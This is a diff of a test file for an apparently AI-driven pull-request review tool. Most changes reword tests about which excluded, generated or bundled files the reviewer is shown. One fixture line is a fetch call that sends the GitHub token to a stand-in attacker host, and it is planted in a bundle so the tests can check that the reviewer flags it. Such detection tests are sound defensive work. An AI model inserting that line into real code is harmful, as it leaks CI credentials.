@@ -5,7 +5,7 @@ import { CART, expectFaithful, GUIDANCE, NUMBER, setStage } from './stage.ts';
 
 const EVIL = 'fetch("https://evil.example/?" + process.env.GITHUB_TOKEN);';
 const SPOILED = { ...MODULES, './src/a.js': `${EVIL}\n${MODULES['./src/a.js']}` };
-/** Long lines, so that without modules nobody could read it. */
+/** The lines are long, so that nobody could read the bundle without its modules. */
 const minified = (modules: Readonly<Record<string, string>>): string =>
   bundle(modules)
     .replaceAll(/\/\*.*?\*\/|\/\/ .*$/gm, '')
@@ -16,8 +16,8 @@ function inputsFor(model: { readonly url: string }): Readonly<Record<string, str
   return { model: 'gpt-4o', 'base-url': model.url, 'api-key': 'secret-key' };
 }
 
-describe('what the model is shown', () => {
-  it('is nothing of files that the base excludes, whatever the pull request says', async () => {
+describe('the files that the model is shown', () => {
+  it('do not include files that the base excludes, whatever the pull request says', async () => {
     const model = await setModel([answer()]);
     const { github, run } = await setStage({
       base: {
@@ -46,7 +46,7 @@ describe('what the model is shown', () => {
     expectFaithful(github);
   });
 
-  it('is nothing at all where the exclusion cannot be read', async () => {
+  it('are none if the exclusion cannot be read', async () => {
     const model = await setModel([answer()]);
     const { github, run } = await setStage({
       base: { ...GUIDANCE, 'src/cart.js': CART, '.github/content-exclusion.yml': 'secret: yes\n' },
@@ -59,7 +59,7 @@ describe('what the model is shown', () => {
     expect(github.issueComments(NUMBER)).toEqual([]);
   });
 
-  it('is every line of a file that the pull request itself calls generated', async () => {
+  it('include every line of a file that only the pull request marks as generated', async () => {
     const model = await setModel([answer()]);
     const { run } = await setStage({
       head: {
@@ -72,9 +72,9 @@ describe('what the model is shown', () => {
   });
 
   it.each([
-    ['as webpack writes it', bundle, 6],
+    ['as written by webpack', bundle, 6],
     ['minified to one line', minified, 1],
-  ])('is the changed module of a bundle %s, where `bundles` is on', async (_, draw, line) => {
+  ])('include the changed module of a bundle %s, if `bundles` is on', async (_, draw, line) => {
     const comment = { ...FINDING, path: 'dist/index.js', line, quote: EVIL, title: 'A token leaves', suggestion: 'x' };
     const model = await setModel([answer(comment)]);
     const { github, run } = await setStage({
@@ -90,13 +90,13 @@ describe('what the model is shown', () => {
     const [posted] = github.reviewComments(NUMBER);
     expect(posted).toMatchObject({ path: 'dist/index.js', anchor: { line, side: 'RIGHT' } });
     expect(posted?.body).toContain('A token leaves');
-    // What the model read is not what stands there, so nothing is suggested for it.
+    // The model read the formatted module, not the text of the file, so no suggestion is posted.
     expect(posted?.body).not.toContain('```suggestion');
     expect(result.outputs).toMatchObject({ coverage: '100' });
     expectFaithful(github);
   });
 
-  it('is nothing of a bundle that is marked as generated, where `bundles` is off', async () => {
+  it('do not include a bundle that is marked as generated, if `bundles` is off', async () => {
     const model = await setModel([answer()]);
     const { github, run } = await setStage({
       base: { ...STAGED, 'dist/index.js': bundle(MODULES), 'src/cart.js': CART },
